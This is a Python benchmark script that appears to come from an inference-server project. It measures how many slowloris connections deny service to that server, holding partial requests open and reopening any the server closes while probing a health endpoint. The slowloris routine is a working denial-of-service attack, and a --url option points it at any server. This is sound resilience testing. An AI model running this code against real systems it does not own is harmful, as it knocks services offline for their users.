"""How many slowloris connections deny service.

    python -m bench.slowloris [--connections 64,256,1024,2048] [--interval 10] [--seconds 30]
                              [--url http://127.0.0.1:8080] [--json out.json]

For each count N: N connections each send a request line and then one header byte every
``--interval`` seconds, never finishing the head; a connection the server closes is opened
again at once (the attacker keeps N open, as a real one would against timeouts). After the
connections are up, a probe sends ``GET /health/live`` on a fresh connection every half second
for ``--seconds``; its success rate and latency say whether service is denied (a probe that
gets no answer within 5 s fails). Starts a real ``inference-server`` with default settings
(slots, queue, workers, threads) unless ``--url`` names one.
"""
from __future__ import annotations

import argparse
import asyncio
import statistics
import sys
import time
from urllib.parse import urlparse

PROBE_TIMEOUT_S = 5.0
HEAD_START = b"POST /v1/chat/completions HTTP/1.1\r\nHost: bench\r\n"


async def _loris(host: str, port: int, interval: float, stop: asyncio.Event, stats: dict) -> None:
    """Keep one slowloris connection open until ``stop``: reopen it whenever the server closes it."""
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect_failures"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        try:
            writer.write(HEAD_START)
            await writer.drain()
            while not stop.is_set():
                try:  # the server answering or closing ends this connection
                    data = await asyncio.wait_for(reader.read(4096), interval)
                except asyncio.TimeoutError:
                    writer.write(b"X")
                    await writer.drain()
                    continue
                if data.startswith(b"HTTP/1.1 408"):
                    stats["closed_with_408"] += 1
                stats["closed_by_server"] += 1
                break
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            writer.close()


async def _probe(host: str, port: int) -> float | None:
    """Seconds to a complete ``/health/live`` answer, or None (no answer within the timeout)."""
    start = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), PROBE_TIMEOUT_S)
        writer.write(b"GET /health/live HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
        data = await asyncio.wait_for(reader.read(), PROBE_TIMEOUT_S - (time.monotonic() - start))
        writer.close()
        return time.monotonic() - start if data.startswith(b"HTTP/1.1 200") else None
    except (OSError, asyncio.TimeoutError):
        return None


async def attack(url: str, connections: int, interval: float, seconds: float) -> dict:
    """One level: ``connections`` slowloris connections, probes for ``seconds``. Returns the
    probe results and the connections' counts."""
    u = urlparse(url)
    stop = asyncio.Event()
    stats = {"opened": 0, "closed_by_server": 0, "closed_with_408": 0, "connect_failures": 0}
    lorises = []
    for _ in range(connections):  # ramp: a few hundred a second
        lorises.append(asyncio.create_task(_loris(u.hostname, u.port, interval, stop, stats)))
        await asyncio.sleep(0.002)
    await asyncio.sleep(1.0)
    probes = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        probes.append(asyncio.create_task(_probe(u.hostname, u.port)))
        await asyncio.sleep(0.5)
    results = await asyncio.gather(*probes)
    stop.set()
    for task in lorises:
        task.cancel()
    await asyncio.gather(*lorises, return_exceptions=True)
    ok = [r for r in results if r is not None]
    return {"connections": connections, "probes": len(results), "probes_ok": len(ok),
            "probe_ok_fraction": len(ok) / len(results),
            "probe_median_s": statistics.median(ok) if ok else None, "probe_max_s": max(ok) if ok else None,
            "denied": len(ok) < len(results) / 2, **stats}


def main(argv=None) -> int:
    from bench.common import save

    p = argparse.ArgumentParser(prog="python -m bench.slowloris", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--connections", default="64,256,1024,2048", help="comma-separated counts, one level each")
    p.add_argument("--interval", type=float, default=10.0, help="seconds between a connection's header bytes")
    p.add_argument("--seconds", type=float, default=30.0, help="probing time per level")
    p.add_argument("--url", help="an already running server (default: start one with default settings)")
    p.add_argument("--json", help="write the results here")
    a = p.parse_args(argv)
    levels = [int(n) for n in a.connections.split(",")]

    def run(url: str) -> list[dict]:
        out = []
        for n in levels:
            r = asyncio.run(attack(url, n, a.interval, a.seconds))
            print(f"{n:5d} connections: probes ok {r['probes_ok']}/{r['probes']}, median "
                  f"{(r['probe_median_s'] or 0) * 1000:.1f} ms, max {(r['probe_max_s'] or 0) * 1000:.1f} ms; "
                  f"opened {r['opened']}, closed by the server {r['closed_by_server']} "
                  f"({r['closed_with_408']} with 408){'  DENIED' if r['denied'] else ''}", flush=True)
            out.append(r)
        return out

    if a.url:
        results = run(a.url)
    else:
        from tests.support.servers import running_server
        with running_server() as server:
            results = run(server.url)
    save({"interval_s": a.interval, "seconds": a.seconds, "levels": results}, a.json)
    return 0


if __name__ == "__main__":
    sys.exit(main())
